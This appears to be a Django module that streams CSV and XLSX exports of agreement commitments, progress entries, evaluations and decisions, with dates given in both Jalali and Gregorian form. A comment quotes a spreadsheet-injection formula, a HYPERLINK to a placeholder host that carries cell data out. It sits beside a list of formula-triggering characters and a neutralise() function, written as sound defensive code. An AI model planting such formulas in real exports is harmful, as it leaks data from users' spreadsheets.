"""CSV and XLSX exports of commitments, progress entries and evaluations.

Each list's columns are defined once (a `Column` spec) and used for both formats. A column has a
stable `key` and a header in the reader's language. Dates come twice, Jalali (`1403/05/12`) and Gregorian
(ISO), with Latin digits so spreadsheets sort them; labels (status, rating) are in the reader's
language. Rows are streamed from one query (`iterator()`), so an export of 100,000 entries
neither loads them all at once nor runs a query per row.
"""

import csv
import datetime as dt
import itertools
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.translation import gettext
from django.utils.translation import gettext_lazy as _

from agreement.downloads import content_disposition
from agreement.formatting import person_name
from agreement.jalali import format_jalali
from dashboard.xlsx_stream import stream_xlsx

if TYPE_CHECKING:
    from django_stubs_ext import StrOrPromise

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("csv", "xlsx")


@dataclass(frozen=True)
class Column:
    key: str
    header: "StrOrPromise"  # a lazy translation
    value: Callable[[Any], Any]


def _local(value):
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None, microsecond=0)
    return value


def jalali(getter) -> Callable:
    """The Jalali date (and local time for a timestamp) with Latin digits, '' when empty."""
    return lambda obj: format_jalali(getter(obj), persian_digits=False)


def gregorian(getter) -> Callable:
    """A date or naive local datetime: a real date cell in XLSX, ISO text in CSV."""
    return lambda obj: _local(getter(obj))


def dated(key: str, header_jalali, header_gregorian, getter) -> list[Column]:
    """The two columns every date gets: `<key>_jalali` and `<key>_gregorian`."""
    return [
        Column(f"{key}_jalali", header_jalali, jalali(getter)),
        Column(f"{key}_gregorian", header_gregorian, gregorian(getter)),
    ]


def yes_no(value: bool) -> str:
    return gettext("yes") if value else gettext("no")


def person(user) -> str:
    return "" if user is None else person_name(user)


def owner_name(commitment) -> str:
    return commitment.owner.short_name if commitment.owner_id else gettext("Joint")


# A spreadsheet program reads a cell starting with one of these as a formula (or a DDE
# command): a narrative of `=HYPERLINK("http://x/?"&A1,"click")` would become a live link.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """CSV text that a spreadsheet cannot run: a leading apostrophe makes the cell plain text."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


ROWS_PER_FETCH = 2000
# What is read before answering: enough to fail early, few enough that the first byte does not
# wait for a big list (the rest follows from a server-side cursor).
FIRST_ROWS = 100


def _first_batch_now(rows) -> tuple[list, Iterable]:
    """The first rows fetched before answering, and an iterator over the rest.

    The query runs (and may fail, with an error page) now, not after a "200 OK" has gone out
    and the download is cut off half-way. A queryset's first batch is read with an ordinary
    query; the rest streams through a server-side cursor opened only if the download goes on,
    so a response nobody reads leaves no cursor behind.
    """
    if isinstance(rows, QuerySet):
        first = list(rows[:FIRST_ROWS])
        if len(first) < FIRST_ROWS:
            return first, iter(())
        return first, rows[FIRST_ROWS:].iterator(chunk_size=ROWS_PER_FETCH)
    rows = iter(rows)
    return list(itertools.islice(rows, 1)), rows


class _Echo:
    def write(self, value):
        return value


def csv_response(columns: list[Column], rows: Iterable, filename: str) -> StreamingHttpResponse:
    """UTF-8 with a byte-order mark, so that Excel opens Persian text correctly."""
    writer = csv.writer(_Echo())
    headers = [str(column.header) for column in columns]
    first, rest = _first_batch_now(rows)

    def lines():
        yield "\ufeff" + writer.writerow(headers)
        for row in itertools.chain(first, rest):
            yield writer.writerow([_cell_text(column.value(row)) for column in columns])

    response = StreamingHttpResponse(lines(), content_type=CSV_TYPE)
    response["Content-Disposition"] = content_disposition(f"{filename}.csv")
    return response


def xlsx_response(columns: list[Column], rows: Iterable, filename: str, *, title: str) -> StreamingHttpResponse:
    """A one-sheet workbook streamed as it is written (dashboard.xlsx_stream); right-to-left in Persian.

    Dates are real date cells; every text is a text cell, shown as typed and never calculated.
    """
    first, rest = _first_batch_now(rows)
    header = [str(column.header) for column in columns]
    values = ([column.value(row) for column in columns] for row in itertools.chain(first, rest))
    content = stream_xlsx(header, values, title=title, right_to_left=translation.get_language_bidi())
    response = StreamingHttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = content_disposition(f"{filename}.xlsx")
    return response


def export_response(format_: str, columns: list[Column], rows: Iterable, *, filename: str, title: str):
    if format_ == "xlsx":
        return xlsx_response(columns, rows, filename, title=title)
    return csv_response(columns, rows, filename)


# The column specs: one per exported list. Keys never change; headers may be reworded.

COMMITMENT_COLUMNS = [
    Column("number", _("Number"), lambda c: c.number),
    Column("owner", _("Owed by"), owner_name),
    Column("text_fa", _("Text (Persian)"), lambda c: c.text_fa),
    Column("text_en", _("Text (English)"), lambda c: c.text_en),
    Column("category", _("Category"), lambda c: c.get_category_display()),
    Column("status", _("Status"), lambda c: c.get_status_display()),
    Column("progress_percent", _("Progress, reported (percent)"), lambda c: c.progress_reported),
    Column("progress_verified_percent", _("Progress, verified (percent)"), lambda c: c.progress_verified),
    *dated("due_on", _("Due date (Jalali)"), _("Due date (Gregorian)"), lambda c: c.due_on),
    Column("indicator_unit", _("Indicator unit"), lambda c: c.indicator_unit),
    Column("indicator_baseline", _("Baseline"), lambda c: c.indicator_baseline),
    Column("indicator_target", _("Target"), lambda c: c.indicator_target),
    Column("indicator_kind", _("Kind of indicator"), lambda c: c.get_indicator_kind_display()),
    Column("indicator_achieved", _("Indicator value, reported"), lambda c: c.value_reported),
    Column("indicator_verified", _("Indicator value, verified"), lambda c: c.value_verified),
    *dated("last_entry", _("Last entry (Jalali)"), _("Last entry (Gregorian)"), lambda c: c.last_entry_at),
    Column("overdue", _("Overdue"), lambda c: yes_no(c.is_overdue)),
    Column("stale", _("Stale"), lambda c: yes_no(c.is_stale)),
]

ENTRY_COLUMNS = [
    Column("id", _("Entry number"), lambda e: e.pk),
    Column("commitment", _("Commitment"), lambda e: e.commitment.number),
    Column("owner", _("Owed by"), lambda e: owner_name(e.commitment)),
    Column("party", _("Reported by (party)"), lambda e: e.party.short_name),
    Column("author", _("Author"), lambda e: person(e.author)),
    *dated("happened_on", _("Date of the work (Jalali)"), _("Date of the work (Gregorian)"), lambda e: e.happened_on),
    *dated("created_at", _("Logged at (Jalali)"), _("Logged at (Gregorian)"), lambda e: e.created_at),
    Column("reported_status", _("Reported status"), lambda e: e.get_reported_status_display()),
    Column("percent_complete", _("Percent complete"), lambda e: e.percent_complete),
    Column("quantity", _("Quantity toward the indicator"), lambda e: e.quantity),
    Column("county", _("County"), lambda e: e.county.name if e.county_id else ""),
    Column("village", _("Village"), lambda e: e.village),
    Column("narrative", _("What was done"), lambda e: e.narrative),
    Column("review_state", _("Review"), lambda e: e.get_state_display()),
    Column("reviewed_by", _("Reviewed by"), lambda e: person(e.reviewed_by)),
    *dated("reviewed_at", _("Reviewed at (Jalali)"), _("Reviewed at (Gregorian)"), lambda e: e.reviewed_at),
    Column("review_comment", _("Reviewer's comment"), lambda e: e.review_comment),
    *dated("withdrawn_at", _("Withdrawn at (Jalali)"), _("Withdrawn at (Gregorian)"), lambda e: e.withdrawn_at),
    Column("withdrawn_reason", _("Reason for withdrawal"), lambda e: e.withdrawn_reason),
]

EVALUATION_COLUMNS = [
    Column("commitment", _("Commitment"), lambda v: v.commitment.number),
    Column("owner", _("Owed by"), lambda v: owner_name(v.commitment)),
    Column("quarter", _("Quarter"), lambda v: v.period.label),
    Column("rating", _("Monitor's rating"), lambda v: v.get_rating_display()),
    Column("reported_status", _("Status reported by the party"), lambda v: v.commitment.get_status_display()),
    Column("assessment", _("Assessment"), lambda v: v.assessment),
    Column("evaluated_by", _("Evaluated by"), lambda v: person(v.evaluated_by)),
    *dated("evaluated_at", _("Evaluated at (Jalali)"), _("Evaluated at (Gregorian)"), lambda v: v.evaluated_at),
]

DECISION_COLUMNS = [
    Column("number", _("Number"), lambda d: d.commitment.number),
    Column("meeting", _("Meeting"), lambda d: d.meeting.code),
    *dated("meeting_on", _("Meeting date (Jalali)"), _("Meeting date (Gregorian)"), lambda d: d.meeting.starts_at),
    Column("row", _("Row"), lambda d: d.position),
    Column("text_fa", _("Text (Persian)"), lambda d: d.commitment.text_fa),
    Column("text_en", _("Text (English)"), lambda d: d.commitment.text_en),
    Column("owner", _("Responsible for the follow-up"), lambda d: owner_name(d.commitment)),
    Column("person", _("Person following it up"), lambda d: person(d.responsible_person)),
    *dated("due_on", _("Due date (Jalali)"), _("Due date (Gregorian)"), lambda d: d.commitment.due_on),
    Column("status", _("Status"), lambda d: d.commitment.get_status_display()),
    Column("overdue", _("Overdue"), lambda d: yes_no(d.is_overdue())),
    Column("serves", _("Commitments it serves"), lambda d: " ".join(c.number for c in d.linked_commitments.all())),
]
